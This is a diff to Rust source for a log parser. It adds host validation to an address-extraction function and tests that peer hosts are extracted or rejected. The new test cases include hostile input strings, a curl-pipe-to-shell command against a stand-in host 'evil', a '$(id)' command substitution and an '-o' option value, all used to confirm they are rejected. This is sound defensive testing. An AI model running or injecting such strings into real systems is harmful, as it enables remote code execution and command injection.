@@ -5,7 +5,7 @@ use std::net::IpAddr;
 use super::line::zoned;
 use crate::digest::parse_hex;
 use crate::time::Timestamp;
-use crate::x509::SerialNumber;
+use crate::x509::{AlternativeName, SerialNumber};
 
 /// An address that a message names.
 #[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
@@ -154,7 +154,11 @@ fn address(text: &str) -> Option<Address> {
         let end = text.find(is_end).unwrap_or(text.len()).min(255);
         text.split_at_checked(end)?
     };
-    if host.is_empty() || host.len() > 255 {
+    // The zone of an address has a meaning on the host that wrote it alone.
+    let host = host.split('%').next().unwrap_or_default();
+    // Whoever hides an address before showing a log hides it so.
+    let is_hidden = host.contains("***") && host.bytes().all(|byte| b"*.".contains(&byte));
+    if host.len() > 255 || !is_hidden && AlternativeName::parse_host(host).is_err() {
         return None;
     }
     let digits = rest.strip_prefix(':').unwrap_or_default();
@@ -322,6 +326,10 @@ mod tests {
             Some("127.0.0.1:2379")
         );
         assert_eq!(peer("TLS handshake error from 10.0.0.5:41234: EOF").as_deref(), Some("10.0.0.5"));
+        assert_eq!(peer("TLS handshake error from [fe80::1%eth0]:41234: EOF").as_deref(), Some("fe80::1"));
+        for host in ["[x: curl evil|sh #]", "[$(id)]", "[]", "", "10.0.0.256", "-o"] {
+            assert_eq!(peer(&format!("TLS handshake error from {host}:41234: EOF")), None, "{host}");
+        }
         assert_eq!(
             path("open /etc/kubernetes/pki/ca.crt: no such").as_deref(),
             Some("/etc/kubernetes/pki/ca.crt")
